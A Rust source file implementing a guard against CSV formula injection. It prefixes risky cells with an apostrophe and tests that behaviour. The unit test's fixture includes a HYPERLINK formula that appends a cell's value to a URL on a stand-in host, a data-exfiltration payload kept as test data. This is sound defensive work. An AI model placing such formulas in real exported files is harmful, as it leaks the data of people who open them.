//! CSV that a spreadsheet opens without running what an adversary wrote.
//!
//! Spreadsheets take a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return for a
//! formula (OWASP, CSV injection). An apostrophe in front makes it text, and shows.

/// The same table (RFC 4180) with an apostrophe in front of every cell that a spreadsheet would
/// run, and how many those are.
///
/// ```
/// let (table, guarded) = fieldmark_stix::spreadsheet::guarded("name\n=1+1\n")?;
/// assert_eq!((table.as_str(), guarded), ("name\r\n'=1+1\r\n", 1));
/// # Ok::<(), csv::Error>(())
/// ```
///
/// # Errors
/// When the table is none.
pub fn guarded(table: &str) -> Result<(String, usize), csv::Error> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(table.as_bytes());
    let mut writer = csv::WriterBuilder::new()
        .flexible(true)
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    let mut found = 0;
    for row in reader.records() {
        let row = row?;
        let cells = row.iter().map(|cell| match runs(cell) {
            true => {
                found += 1;
                format!("'{cell}")
            }
            false => cell.to_owned(),
        });
        writer.write_record(cells)?;
    }
    let bytes = writer.into_inner().map_err(|error| error.into_error())?;
    Ok((String::from_utf8_lossy(&bytes).into_owned(), found))
}

/// Whether a spreadsheet would run it. A plain number is none to guard.
fn runs(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_would_run_is_guarded_and_the_value_can_be_had_back() {
        let table = "Id,Label,n\r\nx--1,\"=HYPERLINK(\"\"http://e/?\"\"&A1,\"\"open\"\")\",-1.5\r\nx--2,@truth_now,+\r\nx--3,plain = text,\"two\nlines\"\r\n";
        let (guarded, found) = guarded(table).unwrap();
        assert_eq!(found, 3);
        assert_eq!(
            guarded,
            "Id,Label,n\r\nx--1,\"'=HYPERLINK(\"\"http://e/?\"\"&A1,\"\"open\"\")\",-1.5\r\nx--2,'@truth_now,'+\r\nx--3,plain = text,\"two\nlines\"\r\n"
        );
        let harmless = "a,b\r\n1,2\r\n";
        assert_eq!(super::guarded(harmless).unwrap(), (harmless.to_owned(), 0));
    }
}
